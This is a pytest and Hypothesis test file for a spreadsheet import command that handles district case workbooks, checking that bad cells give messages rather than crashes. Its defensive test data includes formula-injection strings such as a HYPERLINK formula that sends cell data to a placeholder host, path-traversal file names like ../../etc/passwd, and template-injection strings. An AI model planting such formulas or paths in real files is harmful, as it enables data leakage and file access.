"""`showcase import` and the cells districts actually send: formulas (refused at their cell, never
imported as their text nor as a cached result), error values, control characters (removed, with
a warning naming sheet!cell and column), numbers, dates and booleans where text is expected,
very long cells. Never a traceback.

Property-based (Hypothesis): a template filled with arbitrary values of mixed types goes through
the real command in process (--dry-run); a template filled with hostile text goes through import,
load and the XLSX export and reads back as typed. Examples scale with the Hypothesis profile.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from generator.authoring.sheets import CASES, EXCEL_CELL_LIMIT, MEDIA, MILESTONES, SITES, TRUNCATED_MARK, cell_text, put, write_template
from generator.authoring.importer import _unescape
from generator.content.clean import clean_text

from tests.cli.helpers import showcase, tree_digest
from tests.helpers import ROOT, copy_content

SHEETS = {spec.title: spec for spec in (CASES, SITES, MILESTONES, MEDIA)}


def scaled(n: int) -> int:
    """n examples under the default profile (100), proportionally more or fewer under others."""
    return max(1, n * settings.default.max_examples // 100)


def header_columns(sheet) -> dict[str, int]:
    """English header (second line, without the * of required columns) -> column number."""
    return {str(c.value).splitlines()[-1].rstrip(" *"): c.column for c in sheet[1] if c.value}


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("template") / "报送表.xlsx"
    write_template(path)
    return path


def fill(template: Path, out: Path, rows: dict[str, list[dict[str, object]]], typed: bool = False) -> Path:
    """The template with its example rows deleted and `rows` written in. With `typed`, texts go in
    as text cells (what a person types); otherwise as openpyxl takes them ("=…" is a formula)."""
    book = openpyxl.load_workbook(template)
    for name in SHEETS:
        book[name].delete_rows(2, 1)
    for name, items in rows.items():
        sheet = book[name]
        columns = header_columns(sheet)
        for offset, item in enumerate(items):
            for header, value in item.items():
                if typed:
                    put(sheet, 2 + offset, columns[header], value)
                else:
                    sheet.cell(2 + offset, columns[header]).value = value
    book.save(out)
    return out


@pytest.fixture()
def content(tmp_path):
    return copy_content(tmp_path)


CASE_ROW = {"Title": "田林十二村睦邻中心", "District": "徐汇区", "Year": 2025, "Case type 1": "社区嵌入式服务设施",
            "Summary": "一句话摘要。"}


# --- formulas and error values -----------------------------------------------------------------

def test_a_formula_is_refused_at_its_cell_in_both_languages(template, content, tmp_path):
    book = fill(template, tmp_path / "f.xlsx", {"案例": [
        {**CASE_ROW, "Title": '=HYPERLINK("http://x/?"&A1,"click")', "Sub-district/town": "=1+1"},
        {**CASE_ROW, "Title": "第二个", "Summary": "#N/A"},
    ]})
    before = tree_digest(content)
    zh = showcase("import", str(book), "--content", str(content), "--dry-run", lang="zh")
    en = showcase("import", str(book), "--content", str(content), "--dry-run", lang="en")
    assert zh.returncode == en.returncode == 1, en.stdout + en.stderr
    assert '案例!B2 案例名称: 单元格里是公式（=HYPERLINK("http://x/?"&A1,"click")），不会导入公式，也不会计算它；请把这一列复制后“选择性粘贴 → 数值”' in zh.stdout
    assert '案例!B2 Title: the cell holds a formula (=HYPERLINK("http://x/?"&A1,"click")); formulas are neither imported nor calculated; ' \
           "copy the column and use Paste Special → Values" in en.stdout
    assert "案例!E2 Sub-district/town: the cell holds a formula (=1+1)" in en.stdout
    assert "案例!AB3 Summary: the cell shows the error value #N/A" in en.stdout
    assert "案例!B2 Title: field required" not in en.stdout.replace("Field", "field")  # said once, at the cell
    assert en.stdout.count("案例!B2") == 1
    assert "Traceback" not in zh.stdout + zh.stderr + en.stdout + en.stderr
    assert tree_digest(content) == before


def test_a_formula_with_a_cached_result_is_refused_too(template, content, tmp_path):
    """Excel saves the last result beside a formula; it is not taken either (it may be stale, and
    the formula may not be the district's)."""
    book = fill(template, tmp_path / "cached.xlsx", {"案例": [{**CASE_ROW, "Title": '="睦邻"&"中心"'}]})
    with zipfile.ZipFile(book) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    sheet = next(n for n, data in parts.items() if n.startswith("xl/worksheets/") and b"<f>" in data)
    cached = '<c r="B2"\\1 t="str"><f>\\2</f><v>睦邻中心</v></c>'.encode()
    parts[sheet], found = re.subn(rb'<c r="B2"([^>]*)><f>(.*?)</f>(?:<v\s*/>|<v>\s*</v>)?</c>', cached, parts[sheet])
    assert found == 1
    with zipfile.ZipFile(book, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    assert openpyxl.load_workbook(book, data_only=True)["案例"]["B2"].value == "睦邻中心"  # what a careless import would take
    result = showcase("import", str(book), "--content", str(content), lang="en")
    assert result.returncode == 1
    assert '案例!B2 Title: the cell holds a formula (="睦邻"&"中心")' in result.stdout
    assert not list(content.glob("excellent/xuhui-*.yaml"))


# --- control characters ----------------------------------------------------------------------

def test_control_characters_are_removed_with_a_warning_at_their_cell(template, content, tmp_path):
    book = fill(template, tmp_path / "c.xlsx", {"案例": [
        {**CASE_ROW, "Title": "田林_x000B_十二村\x85睦邻中心", "Summary": "第一行_x000D_\n第二行\x9b31m"},
    ]})  # as they come: openpyxl writes C1 characters and the _xHHHH_ text as they are
    zh = showcase("import", str(book), "--content", str(content), lang="zh")
    assert zh.returncode == 0, zh.stdout + zh.stderr
    assert "警告 案例!B2 案例名称: 已去掉看不见的控制字符 U+000B (LINE TABULATION), U+0085 (" in zh.stdout
    assert "案例!AB2 摘要: 已去掉看不见的控制字符 U+009B" in zh.stdout
    assert "\x9b" not in zh.stdout and "\x85" not in zh.stdout
    path = content / "excellent" / "xuhui-tianlinshiercunmulinzhongxin.yaml"
    text = path.read_text(encoding="utf-8")
    data = yaml.safe_load(text)
    assert data["title"] == "田林十二村睦邻中心"
    assert data["summary"].rstrip("\n") == "第一行\n第二行31m"  # Excel's escaped line break is a line break again
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text) and "_x000" not in text


# --- damaged and odd workbooks ------------------------------------------------------------------

def test_an_unreadable_sheet_is_a_message_not_a_traceback(template, content, tmp_path):
    book = fill(template, tmp_path / "broken.xlsx", {"案例": [{**CASE_ROW, "Year": 2025}]})
    with zipfile.ZipFile(book) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    sheet = next(n for n, data in parts.items() if n.startswith("xl/worksheets/") and b"<v>2025</v>" in data)
    parts[sheet] = parts[sheet].replace(b"<v>2025</v>", b"<v>" + b"9" * 5000 + b"</v>")  # past Python's int limit
    with zipfile.ZipFile(book, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    result = showcase("import", str(book), "--content", str(content), lang="en")
    assert result.returncode == 1
    assert "cannot read the sheet '案例'" in result.stdout and "Traceback" not in result.stdout + result.stderr


def test_a_text_the_export_had_to_cut_is_not_written_back(template, content, tmp_path):
    body = "很长的正文。" * 10 + TRUNCATED_MARK
    book = fill(template, tmp_path / "cut.xlsx", {"案例": [{"id": "changning-ningjuli", "Text": body}]}, typed=True)
    before = tree_digest(content)
    result = showcase("import", str(book), "--content", str(content), "--update", lang="en")
    assert result.returncode == 1
    assert "案例!AD2 Text: this text was cut short by the export (over Excel's cell limit) and is incomplete" in result.stdout
    assert tree_digest(content) == before


def test_numbers_dates_and_booleans_where_text_is_expected(template, content, tmp_path):
    book = fill(template, tmp_path / "types.xlsx", {"案例": [
        {**CASE_ROW, "Title": 12345, "Sub-district/town": True, "Completed": dt.datetime(2024, 6, 1), "Year": 2025.0,
         "Floor area (m²)": "1,200", "Summary": dt.date(2024, 5, 4), "Illustrative": "是"},
    ]})
    result = showcase("import", str(book), "--content", str(content), lang="en")
    assert result.returncode == 0, result.stdout + result.stderr
    data = yaml.safe_load(next(content.glob("excellent/xuhui-*.yaml")).read_text(encoding="utf-8"))
    assert data["title"] == "12345" and data["street"] == "TRUE" and data["summary"] == "2024-05-04"
    assert data["completed"] == "2024-06-01" and data["year"] == 2025 and data["floor_area_m2"] == 1200
    assert data["illustrative"] is True


# --- Hypothesis: arbitrary cells never crash the import -----------------------------------------

any_text = st.text(st.characters(codec="utf-8", exclude_characters="\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
                                 "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f"), max_size=30)
cell_values = st.one_of(
    st.none(), any_text, st.booleans(), st.integers(-10**18, 10**18),
    st.floats(allow_nan=False, allow_infinity=False, width=64),
    st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(9999, 1, 1)),
    st.dates(min_value=dt.date(1900, 3, 1)), st.times(),
    st.sampled_from(["=1+1", '=HYPERLINK("http://x","y")', "=A1&B1", "#N/A", "#REF!", "长宁区", "浦东新", "2024-02-30",
                     "2024年4月", "是", "否", "GCJ-02", "1e999", "nan", "-inf", "_x000B_x", "1,200", "示例", TRUNCATED_MARK,
                     "x" * 40_000, "示例照片.jpg", "../../etc/passwd", "/etc/passwd", "a" * 300 + ".jpg", "."]),
)


def rows_for(sheet: str):
    headers = [c.en for c in SHEETS[sheet].columns]
    return st.lists(st.dictionaries(st.sampled_from(headers), cell_values, max_size=len(headers)), max_size=2)


@pytest.fixture(scope="module")
def project_content(tmp_path_factory) -> Path:
    return copy_content(tmp_path_factory.mktemp("fuzz-import"))


def run_cli(*args: str, lang: str) -> tuple[int, str]:
    """The real `showcase` command, in this process: any exception reaches the test."""
    from generator.cli import build_cli

    stdout = io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(io.StringIO()):
        code = build_cli(lang).main(args=[*args, "--lang", lang], prog_name="showcase", standalone_mode=False)
    return code, stdout.getvalue()


@settings(max_examples=scaled(30), deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(st.fixed_dictionaries({name: rows_for(name) for name in SHEETS}), st.sampled_from(["zh", "en"]))
@example({"案例": [{"Title": "=1+1", "Year": dt.datetime(2024, 1, 1), "District": True, "Latitude": "nan",
                   "Completed": dt.time(12, 30), "Case type 1": 3.5, "Summary": "a\x85b"}],
          "人民坊": [{"Number": "x" * 40_000, "Floor area (m²)": "1e999", "Datum": 7}],
          "大事记": [{"Date": 2024.5}], "媒体": [{"File name": "/etc/passwd", "Entry": "=A1"}, {"File name": "a" * 300 + ".jpg"}]}, "en")
def test_any_cells_import_or_give_messages_never_a_traceback(template, project_content, tmp_path_factory, rows, lang):
    book = fill(template, tmp_path_factory.mktemp("fuzz") / "book.xlsx", rows)
    before = tree_digest(project_content)
    code, out = run_cli("import", str(book), "--content", str(project_content), "--dry-run", lang=lang)
    assert code in (0, 1), out
    assert "Traceback" not in out
    event(f"exit {code}" + (" (sheet unreadable)" if "cannot read" in out or "无法读取" in out else ""))
    assert tree_digest(project_content) == before  # a dry run writes nothing
    if code == 1:
        assert re.search(r"(案例|人民坊|大事记|媒体)!([A-Z]+)?\d+ ", out) or "cannot read" in out or "无法读取" in out, out


# --- Hypothesis: typed text survives template -> import -> export ---------------------------------

PREFIXES = ["=", "+", "-", "@", "#", "'", "<", "{{", "_x000B_", "\t", "\x85"]
hostile = st.one_of(
    st.sampled_from(['=HYPERLINK("http://x/?"&A1,"click")', "=1+1", "-2+3", "@SUM(A1)", "#N/A", "<b>A & B</b>",
                     "{{ 7*7 }}", "{% raw %}", "\u202eevil", "a\x85b", "line\nbreak", "😀😀"]),
    st.builds(lambda p, t: p + t, st.sampled_from(PREFIXES), any_text),
    any_text,
)
TEXT_COLUMNS = ["Title", "Title (English)", "Sub-district/town", "Sub-district/town (English)", "Address",
                "Address (English)", "Summary", "Summary (English)", "Text", "Text (English)"]


def imported_form(text: str) -> str:
    """A typed text as the entry holds it: written into the cell (cell_text), read back with
    Excel's escapes of control characters decoded, control characters and surrounding space
    removed."""
    return clean_text(_unescape(cell_text(text)[0]))[0].strip()


@pytest.fixture(scope="module")
def empty_content(tmp_path_factory) -> Path:
    """A content folder with the documents and the plan table but no entries."""
    folder = tmp_path_factory.mktemp("round-trip") / "cases"
    shutil.copytree(ROOT / "cases", folder, ignore=shutil.ignore_patterns("*.yaml", "*.jpg", "*.png", "*.webp"))
    shutil.copy(ROOT / "cases" / "documents.yaml", folder / "documents.yaml")
    return folder


@settings(max_examples=scaled(25), deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(st.lists(hostile, min_size=len(TEXT_COLUMNS), max_size=len(TEXT_COLUMNS)),
       st.one_of(st.none(), st.integers(EXCEL_CELL_LIMIT - 5, EXCEL_CELL_LIMIT + 5)))
@example(['=HYPERLINK("http://x/?"&A1,"click")', "=1+1", "=1+1", "+x", "-2+3", "@x", "#N/A", "<b>b</b>", "{{ 7*7 }}", "'=1"], None)
@example(["标题", "t", "s", "s", "a", "a", "摘要", "s", "=正文", "b"], EXCEL_CELL_LIMIT + 1)
def test_typed_text_goes_through_import_and_export_as_typed(template, empty_content, tmp_path_factory, texts, long_body):
    from generator.authoring.importer import apply_changes, plan_import
    from generator.collection import load_collection
    from generator.export import ExportJob
    from generator.export.data import write_xlsx

    texts = [t if imported_form(t) else "空" + t for t in texts]  # required columns need some text
    if long_body is not None:
        texts[8] = texts[8] + "字" * (long_body - len(texts[8].encode("utf-16-le")) // 2)
    work = tmp_path_factory.mktemp("round")
    content = work / "cases"
    shutil.copytree(empty_content, content)
    row = {**CASE_ROW, "id": "xuhui-round-trip", **dict(zip(TEXT_COLUMNS, texts))}
    book = fill(template, work / "book.xlsx", {"案例": [row]}, typed=True)

    collection, found = load_collection(content)
    assert collection is not None, [d.format("en") for d in found]
    result = plan_import(book, collection, content, None)
    if cell_text(texts[8])[1]:  # cut by the workbook writer: the import refuses the cell, nothing else
        assert len(result.problems) == 1
        assert result.problems[0].format("en").startswith("案例!AD2 Text: this text was cut short by the export")
        return
    assert not result.problems, [p.format("en") for p in result.problems]
    apply_changes(result.changes)
    back, found = load_collection(content)
    assert back is not None, [d.format("en") for d in found if d.is_error]
    case = back.cases["xuhui-round-trip"]
    fields = {"Title": case.title.zh, "Title (English)": case.title.en, "Sub-district/town": case.street.zh,
              "Sub-district/town (English)": case.street.en, "Address": case.address.zh, "Address (English)": case.address.en,
              "Summary": case.summary.zh, "Summary (English)": case.summary.en, "Text": case.body.zh, "Text (English)": case.body.en}
    for header, text in zip(TEXT_COLUMNS, texts):
        assert (fields[header] or "") == imported_form(text), header

    out = work / "entries.xlsx"
    write_xlsx(ExportJob(back, list(back.cases.values()), as_of="2024-01-01"), out)
    sheet = openpyxl.load_workbook(out)["案例"]
    columns = {str(c.value).split("\n")[1]: c.column for c in sheet[1]}
    for header in TEXT_COLUMNS:
        cell = sheet.cell(2, columns[header])
        assert cell.data_type in ("s", "n") and (cell.value or "") == cell_text(fields[header] or "")[0], header
    with zipfile.ZipFile(out) as archive:
        assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n)
                   for n in archive.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", ["yes", "No", "on", "OFF", "1:20", "~", "null", "1e5", "0x1F", "2024-02-30", ".inf", "12_000"])
def test_a_text_the_loader_would_read_as_something_else_is_written_quoted(tmp_path, text):
    """The round-trip editor speaks YAML 1.2 and wrote `street: yes` plain; the loader (YAML 1.1)
    read it back as True, and `1:20` as the number 80."""
    from generator.authoring import yamledit
    from generator.load import read_yaml

    path = tmp_path / "entry.yaml"
    yamledit.write(path, yamledit.dumps(yamledit.plain({"street": {"zh": text}, "note": text})))
    source, problems = read_yaml(path, tmp_path)
    assert not problems and source.data == {"street": {"zh": text}, "note": text}
